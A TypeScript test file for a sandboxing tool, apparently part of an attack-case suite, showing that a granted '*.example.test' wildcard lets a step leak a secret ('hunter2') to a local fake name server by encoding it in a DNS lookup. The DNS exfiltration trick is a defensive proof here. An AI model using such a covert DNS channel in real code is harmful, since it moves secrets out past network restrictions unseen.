import assert from "node:assert/strict";
import { folderWith } from "../../cli/folder_with.ts";
import { foreignFile } from "../../cli/foreign_bed.ts";
import type { OwnCase } from "../case.ts";
import { acceptedSet, inNamespaces } from "../in_namespaces.ts";

/** Says each name that it is asked for, and that there is none. */
const nameServer = `
import { createSocket } from "node:dgram";
const socket = createSocket("udp4");
socket.on("message", (query, { port, address }) => {
  const labels = [];
  for (let at = 12; query[at] > 0; at += query[at] + 1) {
    labels.push(query.subarray(at + 1, at + 1 + query[at]).toString());
  }
  console.log("asked " + labels.join("."));
  query[2] |= 0x80;
  query[3] = 0x83; // No such name.
  socket.send(query, port, address);
});
socket.bind(53, "127.0.0.1", () => console.log("listening"));
`;

const script = `
ip link set lo up
mount --bind "$at/resolv.conf" "$(readlink -f /etc/resolv.conf)"
mkfifo "$at/said"
"$deno" run --quiet --no-prompt --no-config --allow-net=127.0.0.1:53,0.0.0.0 "$at/server.ts" >"$at/said" &
server=$!
exec 3<"$at/said"
read -r line <&3
sluice run names.yaml --box none --accept ${acceptedSet("names.yaml")} | cut -d: -f1-3
kill "$server"
cat <&3
`;

/** What a granted wildcard of names lets out. */
export const names: readonly OwnCase[] = [
  {
    name: "wildcard-names",
    attack: "tells a name server something by a name under a granted *.example.test",
    layer: "nothing",
    unboxed: "**succeeds**: what connects has its names looked up, and all below is granted",
    namespaces: true,
    async prove() {
      const step = (host: string) =>
        foreignFile({
          grants: { connect: ["*.example.test"] },
          run: `
            await fetch("https://${host}/").catch(() => {});`,
        });
      const at = await folderWith({
        "resolv.conf": "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
        "server.ts": nameServer,
        "below.ts": step("hunter2.example.test"),
        "beside.ts": step("hunter3.example.invalid"),
        "names.yaml":
          "sluice: v1\nname: names\nsteps:\n  - { id: below, uses: ./below.ts }\n  - { id: beside, uses: ./beside.ts }\n",
      });
      const said = await inNamespaces(at, script);
      assert.match(said, /^asked hunter2\.example\.test$/m, said);
      assert.doesNotMatch(said, /asked hunter3/);
    },
  },
];
